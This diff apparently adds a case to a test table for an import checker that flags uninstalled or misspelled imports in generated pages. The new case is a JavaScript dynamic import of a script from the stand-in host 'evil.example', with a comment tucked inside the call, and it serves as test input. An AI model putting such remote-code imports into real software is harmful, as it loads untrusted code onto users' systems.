@@ -21,6 +21,7 @@ MADE_UP = {
     "router dom": (PAGE, 'import { Link } from "react-router-dom"\n', "'react-router-dom' is not installed"),
     "dev package": (PAGE, 'import { test } from "@playwright/test"\n', "'@playwright/test' is not installed"),
     "node": (PAGE, 'import fs from "node:fs"\n', "is not installed"),
+    "comment": (PAGE, 'const x = import(/* from there */ "https://evil.example/x.js")\n', "is not installed"),
     "alias": (PAGE, 'import { Sheet } from "@/components/ui/sheet"\n', "There are: button.tsx"),
     "relative": (PAGE, 'import { Form } from "./form-dialog"\n', "no file './form-dialog'"),
     "name": (PAGE, 'import { Buton } from "@/components/ui/button"\n', "Did you mean Button?"),
